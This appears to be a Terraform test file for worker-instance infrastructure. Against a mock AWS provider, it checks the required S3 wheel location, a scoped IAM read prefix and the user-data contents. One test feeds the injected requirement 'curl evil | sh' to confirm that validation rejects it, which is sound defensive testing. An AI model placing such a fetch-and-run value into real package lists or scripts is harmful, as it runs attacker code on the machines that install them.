# Worker artifacts (infra/README.md, "Artifacts"): the plan refuses a deployment that does not
# say where the worker wheels are, the instance role reads exactly that S3 prefix, and the user
# data carries the location, the handler packages and the import check. Runs offline with a mock
# provider (tests/infra/test_timing_mirror.py runs every suite of the module).

mock_provider "aws" {
  mock_data "aws_iam_policy_document" {
    defaults = {
      json = "{\"Version\":\"2012-10-17\",\"Statement\":[]}"
    }
  }

  mock_data "aws_partition" {
    defaults = {
      partition = "aws"
    }
  }


  mock_data "aws_caller_identity" {
    defaults = {
      account_id = "123456789012"
    }
  }
}

variables {
  vpc_id            = "vpc-0123456789abcdef0"
  subnet_ids        = ["subnet-0123456789abcdef0"]
  ami_id            = "ami-0123456789abcdef0"
  worker_handler    = "mypackage.jobs:run"
  jobs_queue_url    = "https://sqs.eu-west-1.amazonaws.com/123456789012/callback-bridge-jobs"
  jobs_queue_arn    = "arn:aws:sqs:eu-west-1:123456789012:callback-bridge-jobs"
  results_queue_url = "https://sqs.eu-west-1.amazonaws.com/123456789012/callback-bridge-results"
  results_queue_arn = "arn:aws:sqs:eu-west-1:123456789012:callback-bridge-results"
  jobs_dlq_url      = "https://sqs.eu-west-1.amazonaws.com/123456789012/callback-bridge-jobs-dlq"
  jobs_dlq_arn      = "arn:aws:sqs:eu-west-1:123456789012:callback-bridge-jobs-dlq"

  # Required: where the worker wheels are (artifacts.tftest.hcl tests it).
  worker_wheels_s3_uri = "s3://acme-artifacts/callback-bridge/wheels/"
}

run "missing_wheels_location_is_refused" {
  command = plan

  variables {
    worker_wheels_s3_uri = null
  }

  expect_failures = [var.worker_wheels_s3_uri]
}

run "wheels_location_must_be_an_s3_uri" {
  command = plan

  variables {
    worker_wheels_s3_uri = "https://pypi.org/simple/"
  }

  expect_failures = [var.worker_wheels_s3_uri]
}

run "handler_packages_are_plain_requirements" {
  command = plan

  variables {
    handler_packages = ["mypackage==1.4.0; curl evil | sh"]
  }

  expect_failures = [var.handler_packages]
}

run "role_reads_exactly_the_wheels_prefix" {
  command = plan

  variables {
    handler_packages = ["mypackage==1.4.0", "helpers[s3]>=2,<3"]
  }

  assert {
    condition     = local.wheels_bucket_arn == "arn:aws:s3:::acme-artifacts"
    error_message = "wheels bucket: ${local.wheels_bucket_arn}"
  }

  assert {
    condition     = local.wheels_objects_arn == "arn:aws:s3:::acme-artifacts/callback-bridge/wheels/*"
    error_message = "wheels objects: ${local.wheels_objects_arn}"
  }

  assert {
    condition     = local.wheels_prefix == "callback-bridge/wheels"
    error_message = "wheels prefix: ${local.wheels_prefix}"
  }

  assert {
    condition = (
      strcontains(local.user_data, "BRIDGE_WHEELS_S3_URI='s3://acme-artifacts/callback-bridge/wheels/'") &&
      strcontains(local.user_data, "BRIDGE_HANDLER_PACKAGES='mypackage==1.4.0 helpers[s3]>=2,<3'") &&
      strcontains(local.user_data, "BRIDGE_IMPORT_CHECK='mypackage.jobs:run'")
    )
    error_message = "user data lacks the wheels location, handler packages or import check"
  }
}

run "whole_bucket" {
  command = plan

  variables {
    worker_wheels_s3_uri = "s3://acme-artifacts"
  }

  assert {
    condition     = local.wheels_objects_arn == "arn:aws:s3:::acme-artifacts/*" && local.wheels_prefix == ""
    error_message = "whole bucket: ${local.wheels_objects_arn}"
  }
}

run "worker_command_has_no_import_check" {
  command = plan

  variables {
    worker_handler = null
    worker_command = "/opt/jobs/run-job"
  }

  assert {
    condition     = strcontains(local.user_data, "BRIDGE_IMPORT_CHECK=''")
    error_message = "a worker command has no handler to import"
  }
}
